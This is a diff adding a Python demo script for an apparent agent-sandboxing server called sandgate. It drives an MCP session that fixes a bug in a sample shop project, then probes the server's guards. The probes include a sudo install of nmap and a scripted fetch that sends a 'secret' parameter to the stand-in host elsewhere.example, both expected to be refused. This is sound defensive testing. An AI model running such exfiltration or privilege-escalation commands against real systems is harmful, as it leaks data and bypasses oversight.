@@ -1,0 +1,267 @@
+"""`sandgate demo`: an agent's session against the real server over stdio, each step with what was expected of it."""
+
+import argparse
+import json
+import os
+import shutil
+import sys
+import tempfile
+import time
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import anyio
+from mcp import Client
+from mcp.client.stdio import StdioServerParameters
+from mcp.types import CallToolResult, TextContent
+from rich.console import Console
+from rich.text import Text
+
+from server.ops.demo_origin import HOST, Origin, serving
+from server.record.audit import lines, verify
+from server.sandbox.sandbox import USER_ID
+from server.settings import ENVIRON, load
+
+SHOP = Path(__file__).parents[2] / "examples" / "shop"
+SHOWN_LINES = 6
+FORBIDDEN_HOST = "elsewhere.example"
+
+INTRODUCTION = """\
+An agent is about to work on a small Python project in a sandbox of yours.
+It starts the real server (sandgate serve --stdio), calls its tools as any MCP client would, and checks every answer.
+Nothing needs root; nothing leaves this machine; a copy of the project in a temporary folder is all that changes.
+It takes about 15 seconds.
+"""
+
+
+@dataclass(frozen=True, slots=True)
+class Step:
+    """One call, the sentence a person reads, and whether its answer is the expected one."""
+
+    title: str
+    tool: str
+    arguments: dict[str, Any]
+    expected: str
+    holds: Callable[[CallToolResult, str], bool]
+
+
+@dataclass
+class Tally:
+    console: Console
+    expected: int = 0
+    total: int = 0
+    decisions: dict[str, str] = field(default_factory=dict)
+
+    def count(self, *, holds: bool) -> None:
+        self.total += 1
+        self.expected += holds
+
+
+def demo(_: argparse.Namespace) -> int:
+    console = Console(highlight=False, soft_wrap=True)
+    console.print(INTRODUCTION, markup=False)
+    tally = Tally(console)
+    with tempfile.TemporaryDirectory(prefix="sandgate-demo-") as folder:
+        project = _project(Path(folder))
+        with serving(Path(folder)) as origin:
+            config = _config(Path(folder), origin)
+            anyio.run(_session, tally, project, config, origin)
+    _check_chain(tally)
+    console.print(f"demo: {tally.expected} of {tally.total} as expected")
+    return 0 if tally.expected == tally.total else 1
+
+
+def _project(folder: Path) -> Path:
+    """A copy of the example that belongs to whoever sandboxes run as: root's folders are not lent."""
+    folder.chmod(0o755)
+    project = folder / "shop"
+    shutil.copytree(SHOP, project, ignore=shutil.ignore_patterns("__pycache__", ".pytest_cache"))
+    if os.geteuid() == 0:
+        for path in (project, *project.rglob("*")):
+            os.chown(path, USER_ID, USER_ID)
+    return project
+
+
+def _config(folder: Path, origin: Origin) -> Path:
+    config = folder / "sandgate.toml"
+    config.write_text(
+        f'[egress]\nallow = ["{HOST}:{origin.port}"]\nresolve = {{"{HOST}" = "127.0.0.1"}}\n'
+        f'networks = ["127.0.0.1/32"]\nupstream_ca = "{origin.certificate}"\n'
+    )
+    return config
+
+
+async def _session(tally: Tally, project: Path, config: Path, origin: Origin) -> None:
+    program = [*_program(), "serve", "--stdio", "--config", str(config), "--workspace", f"{project}:rw"]
+    server = StdioServerParameters(command=program[0], args=program[1:], env=dict(ENVIRON))
+    started = time.monotonic()
+    async with Client(server) as client:
+        tools = await client.list_tools()
+        tally.console.print(
+            f"[dim]server up after {time.monotonic() - started:.1f} s, protocol {client.protocol_version}, "
+            f"{len(tools.tools)} tools[/]\n"
+        )
+        for step in _steps(project, origin):
+            await _take(tally, client, step)
+        await _show_record(tally)
+
+
+def _program() -> list[str]:
+    """The console script that this process was started as."""
+    return [sys.executable, "-P", str(Path(sys.argv[0]).resolve())]
+
+
+def _steps(project: Path, origin: Origin) -> list[Step]:
+    cart = f"{project}/shop/cart.py"
+    return [
+        Step(
+            "The project's tests, to see what is wrong",
+            "shell",
+            {"command": "python -m pytest -q"},
+            "two of four fail",
+            lambda result, text: _exit(result) == 1 and "2 failed, 2 passed" in text,
+        ),
+        Step(
+            "Where the discount is computed",
+            "file_search",
+            {"pattern": "discount_percent", "glob": "*.py"},
+            "the line in cart.py is found",
+            lambda _, text: "shop/cart.py" in text,
+        ),
+        Step(
+            "The file itself",
+            "file_read",
+            {"path": cart, "offset": 16, "limit": 6},
+            "six lines of it",
+            lambda _, text: "// 10" in text and "of 21" in text or "// 10" in text,
+        ),
+        Step(
+            "The mistake, mended: a percentage is a hundredth",
+            "file_edit",
+            {"path": cart, "old": "discount_percent // 10\n", "new": "discount_percent // 100\n"},
+            "a diff of one line",
+            lambda _, text: "// 100" in text and text.count("\n+") >= 1,
+        ),
+        Step(
+            "The tests again, streaming",
+            "shell",
+            {"command": "python -m pytest -v --no-header | cat"},
+            "all four pass",
+            lambda result, text: _exit(result) == 0 and "4 passed" in text,
+        ),
+        Step(
+            "A new file",
+            "file_write",
+            {"path": "NOTES.md", "content": "A discount is in percent.\n"},
+            "it is created",
+            lambda _, text: text.startswith("created"),
+        ),
+        Step(
+            "What the sandbox sees of a network",
+            "exec",
+            {"argv": ["ls", "/sys/class/net"]},
+            "loopback and nothing else",
+            lambda result, text: _exit(result) == 0 and text.strip() == "lo",
+        ),
+        Step(
+            "Root, please?",
+            "shell",
+            {"command": "echo ok && sudo apt-get install -y nmap"},
+            "refused before anything runs, with the rule",
+            lambda result, text: result.is_error is True and "privilege.tools" in text,
+        ),
+        Step(
+            "A push to somewhere else",
+            "shell",
+            {"command": "git push origin main"},
+            "a person is asked first",
+            lambda result, text: result.is_error is True and "approval" in text and "sandgate allow" in text,
+        ),
+        Step(
+            "An allowed host",
+            "shell",
+            {"command": f"curl -sS {origin.url}"},
+            "its page comes through the gate",
+            lambda result, text: _exit(result) == 0 and "the one host" in text,
+        ),
+        Step(
+            "Any other host",
+            "exec",
+            {"argv": ["python3", "-c", _fetch(f"https://{FORBIDDEN_HOST}/upload?secret=1")]},
+            "403 with the reason, and the result says who refused",
+            lambda result, text: "egress.not_allowed" in text and "the gate refused" in text and _exit(result) == 0,
+        ),
+    ]
+
+
+def _fetch(url: str) -> str:
+    """A program that no parser reads: the gate has to hold by itself."""
+    return (
+        "import urllib.request, urllib.error\n"
+        f"try: print(urllib.request.urlopen({url!r}).read())\n"
+        "except urllib.error.HTTPError as error: print(error.code, error.read().decode())"
+    )
+
+
+def _exit(result: CallToolResult) -> int | None:
+    code = (result.structured_content or {}).get("exit_code")
+    return code if isinstance(code, int) else None
+
+
+async def _take(tally: Tally, client: Client, step: Step) -> None:
+    """Call, show what came as it came, and say whether it is what was expected."""
+    console = tally.console
+    console.print(f"[bold]{tally.total + 1:2}. {step.title}[/]")
+    console.print(Text(f"    {step.tool} {_brief(step.arguments)}", style="cyan"))
+    streamed = 0
+
+    async def progress(_: float, __: float | None, message: str | None) -> None:
+        nonlocal streamed
+        streamed += len(message or "")
+
+    result = await client.call_tool(step.tool, step.arguments, progress_callback=progress)
+    text = "\n".join(part.text for part in result.content if isinstance(part, TextContent))
+    shown = text.splitlines()
+    for line in shown[:SHOWN_LINES] if len(shown) <= SHOWN_LINES else [*shown[:2], "...", *shown[-SHOWN_LINES + 2 :]]:
+        console.print(Text(f"    | {line[:150]}"))
+    if streamed:
+        console.print(f"    [dim]({streamed} characters of it streamed while it ran)[/]")
+    holds = step.holds(result, text)
+    tally.count(holds=holds)
+    tally.decisions[step.title] = str((result.structured_content or {}).get("decision_id", ""))
+    mark = "[green]as expected[/]" if holds else "[red]NOT as expected[/]"
+    console.print(f"    {mark}: {step.expected}\n")
+
+
+def _brief(arguments: dict[str, Any]) -> str:
+    text = json.dumps(arguments, ensure_ascii=False)
+    return text if len(text) <= 110 else f"{text[:107]}..."  # noqa: PLR2004 - a line of a terminal
+
+
+async def _show_record(tally: Tally) -> None:
+    """One decision, from its first line to its last, with the flow that it caused."""
+    decision = tally.decisions["An allowed host"]
+    wanted = {"call.started", "call.decided", "egress.flow", "sandbox.job_ended", "call.ended"}
+    tally.console.print(f"[bold]{tally.total + 1:2}. The record that joins them: sandgate audit show {decision}[/]")
+    found: list[dict[str, Any]] = []
+    with anyio.move_on_after(5):
+        while not wanted <= {line["kind"] for line in found}:
+            await anyio.sleep(0.1)
+            found = [line for _, line in lines(load().audit_file) if line.get("decision_id") == decision]
+    for line in found:
+        brief = {name: line[name] for name in ("effect", "host", "status", "outcome", "exit_code") if name in line}
+        tally.console.print(Text(f"    | {line['time'][11:23]} {line['kind']:18} {_brief(brief)}"))
+    holds = wanted <= {line["kind"] for line in found}
+    tally.count(holds=holds)
+    mark = "[green]as expected[/]" if holds else "[red]NOT as expected[/]"
+    tally.console.print(f"    {mark}: call, decision, flow and end under one id\n")
+
+
+def _check_chain(tally: Tally) -> None:
+    tally.console.print(f"[bold]{tally.total + 1:2}. Is the audit whole? sandgate audit verify[/]")
+    count, head = verify(load().audit_file)
+    tally.count(holds=count > 0)
+    tally.console.print(f"    | {count} lines, an unbroken chain; its head is {head[:16]}...")
+    tally.console.print("    [green]as expected[/]: no line is missing or changed\n")
